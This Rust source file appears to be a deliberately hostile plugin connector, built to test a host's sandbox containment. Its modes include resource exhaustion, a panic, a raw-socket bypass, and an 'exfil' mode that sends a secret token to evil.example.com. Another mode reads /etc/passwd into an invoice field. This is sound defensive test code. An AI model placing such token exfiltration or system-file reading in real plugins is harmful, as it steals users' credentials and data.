//! A connector that misbehaves on purpose, for the host's containment tests. The config value
//! `mode` picks the misbehaviour; `good` behaves.

use dunwell_plugin_sdk::prelude::*;

pub struct Hostile;

fn good_invoice(n: u32) -> Invoice {
    Invoice {
        id: format!("h{n}"),
        number: format!("H-{n}"),
        customer_key: "HC1".into(),
        kind: DocumentKind::Invoice,
        issued_on: "2026-01-01".into(),
        due_on: "2026-01-31".into(),
        currency: "EUR".into(),
        total: "100.00".into(),
        open: None,
        payment_reference: None,
        corrects: None,
        status: InvoiceStatus::Open,
        removed: false,
    }
}

impl Connector for Hostile {
    fn describe() -> Info {
        info("hostile", env!("CARGO_PKG_VERSION"), "misbehaves as configured")
            .config_key(
                "mode",
                true,
                "good, loop, bomb, panic, exfil, files, huge, garbage, flood, sleep, socket, stdout, env",
            )
            .provides(true, true, false)
    }

    fn pull_customers(request: PageRequest) -> Result<CustomerPage, ConnectorError> {
        let items = vec![Customer {
            id: "hc1".into(),
            key: "HC1".into(),
            name: "Hostile Test Customer".into(),
            kind: None,
            contact: None,
            email: None,
            phone: None,
            address: Address { street: None, postal_code: None, city: None, country: None },
            language: None,
            removed: false,
        }];
        Ok(CustomerPage { items, next_cursor: request.cursor.or(Some("c1".into())), more: false })
    }

    fn pull_invoices(request: PageRequest) -> Result<InvoicePage, ConnectorError> {
        let mode = require_config("mode")?;
        log(Level::Info, &format!("hostile guest in mode {mode}"));
        let mut items = vec![good_invoice(1)];
        match mode.as_str() {
            "good" => {}
            "loop" => {
                let mut x = 0u64;
                loop {
                    x = x.wrapping_add(1);
                    std::hint::black_box(x);
                }
            }
            "bomb" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![7u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "panic" => panic!("hostile guest panics on purpose"),
            "exfil" => {
                let token = secret("token").unwrap_or_default();
                http::get(&format!("https://evil.example.com/steal?t={token}")).send()?;
            }
            "files" => {
                let stolen = std::fs::read_to_string("/etc/passwd")
                    .map_err(|e| ConnectorError::Internal(format!("cannot read /etc/passwd: {e}")))?;
                items[0].number = stolen;
            }
            "huge" => {
                let url = require_config("url")?;
                let body = http::get(&url).send()?;
                items[0].number = format!("got {} bytes", body.body().len());
            }
            "garbage" => {
                items[0].total = "1e5".into();
                items[0].due_on = "2026-02-30".into();
            }
            "flood" => {
                items = (0..request.limit + 50).map(good_invoice).collect();
            }
            "sleep" => std::thread::sleep(std::time::Duration::from_secs(3600)),
            "socket" => {
                // Around the host's HTTP client, straight to a TCP port.
                let addr = require_config("addr")?;
                let outcome = match std::net::TcpStream::connect(addr.as_str()) {
                    Ok(_) => "connected".to_string(),
                    Err(e) => format!("cannot connect: {e}"),
                };
                return Err(ConnectorError::Internal(format!("raw socket to {addr}: {outcome}")));
            }
            "stdout" => {
                use std::io::Write;
                let line = [b'x'; 1024];
                let mut out = std::io::stdout();
                for _ in 0..100 * 1024 {
                    if out.write_all(&line).is_err() {
                        break;
                    }
                }
                let _ = out.flush();
                return Err(ConnectorError::Internal("wrote 100 MB to stdout".into()));
            }
            "env" => {
                let vars = std::env::vars().count();
                let args = std::env::args().count();
                return Err(ConnectorError::Internal(format!(
                    "environment: {vars} variables, {args} arguments"
                )));
            }
            other => return Err(ConnectorError::InvalidConfig(format!("unknown mode {other}"))),
        }
        Ok(InvoicePage { items, next_cursor: Some("i1".into()), more: false })
    }
}

export_connector!(Hostile);
